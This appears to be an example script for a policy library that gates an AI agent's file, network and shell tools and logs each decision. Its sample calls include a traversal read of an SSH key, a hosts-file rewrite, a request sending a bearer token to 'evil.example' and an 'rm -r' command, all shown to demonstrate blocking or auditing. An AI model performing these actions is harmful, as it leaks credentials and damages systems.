// Step 4, observing and auditing: what is decided is told, and a rule can be tried before it stops anybody.
//
//     npx tsx examples/agent-tools/main.ts

import { fileURLToPath } from "node:url";
import { Actra, ActraPolicyError, ActraRuntime, type DecisionEvent } from "actra";

const policy = await Actra.fromDirectory(fileURLToPath(new URL(".", import.meta.url)));

const files = new Map([["/project/main.ts", "export {};"]]);
const task = { spent_cents: 120, budget_cents: 500, supervised: false };

/** How often each rule on trial would have had a say. */
const trial = new Map<string, number>();

/** Each event goes here: in life to a log. What the schema calls sensitive is not in it. */
function observe({ action, decision, error, outcome, mode }: DecisionEvent): void {
  const { type, ...fields } = action;
  if (outcome !== undefined) return console.log(`    ${type} ${outcome.ended}`);
  console.log(`  ${mode} ${type}: ${decision?.effect ?? error?.code} ${decision?.matched_rule ?? ""}`);
  const shown = Object.entries(fields).map(([name, value]) => `${name}=${value}`);
  console.log(`    ${shown.join(" ")}`);
  for (const rule of decision?.audited?.rules ?? []) trial.set(rule, (trial.get(rule) ?? 0) + 1);
}

const runtime = new ActraRuntime(policy, {
  actor: async () => ({ type: "agent", supervised: task.supervised }),
  snapshot: async () => ({ ...task, workspace: "/project/", trusted_hosts: ["api.example"] }),
  observers: [observe],
});

// The agent's tools, each behind a decision.
const tools = {
  read_file: runtime.admit("read_file", (path: string) => files.get(path) ?? "(no such file)"),
  write_file: runtime.admit("write_file", writeFile, {
    builder: (_name, { path, text }) => ({ path, bytes: Buffer.byteLength(text) }),
    fields: ["path", "text"],
  }),
  fetch_url: runtime.admit("fetch_url", fetchUrl),
  // New to the policy: it is watched for a week before anything is stopped.
  run_command: runtime.audit("run_command", (program: string, _arguments: string[]) => `${program}: done`),
};

function writeFile(path: string, text: string): string {
  files.set(path, text);
  return `${text.length} characters`;
}

function fetchUrl(host: string, _address: string, method: string, _authorization?: string): string {
  return `${method} ${host}: 200`;
}

await use("reads a file of the task", () => tools.read_file("/project/main.ts"));
await use("reads a key", () => tools.read_file("/project/../home/.ssh/id"));
await use("writes a large file", () => tools.write_file("/project/data.json", "0".repeat(1_000_001)));
await use("writes elsewhere", () => tools.write_file("/etc/hosts", "127.0.0.1 bank.example"));
await use("sends its key along", () =>
  tools.fetch_url("evil.example", "203.0.113.9", "GET", "Bearer s3cr3t"),
);
await use("posts, and nobody watches", () => tools.fetch_url("api.example", "203.0.113.10", "POST"));
await use("runs something", () => tools.run_command("rm", ["-r", "/project/build"]));

console.log(`Files: ${[...files.keys()].join(", ")}`);
console.log("\nRules on trial, and how often each would have had a say:");
for (const [rule, count] of trial) console.log(`  ${rule}: ${count}`);

console.log("\nWhy the key was not sent:\n");
const request = {
  host: "evil.example",
  address: "203.0.113.9",
  method: "GET",
  authorization: "Bearer s3cr3t",
};
console.log(String(await runtime.explainAsync({ type: "fetch_url", ...request })));

async function use(title: string, call: () => Promise<string>): Promise<void> {
  console.log(`The agent ${title}`);
  try {
    console.log(`  → ${await call()}`);
  } catch (error) {
    if (!(error instanceof ActraPolicyError)) throw error;
    console.log(`  → ${error.decision.reason ?? error.message}`);
  }
  console.log();
}
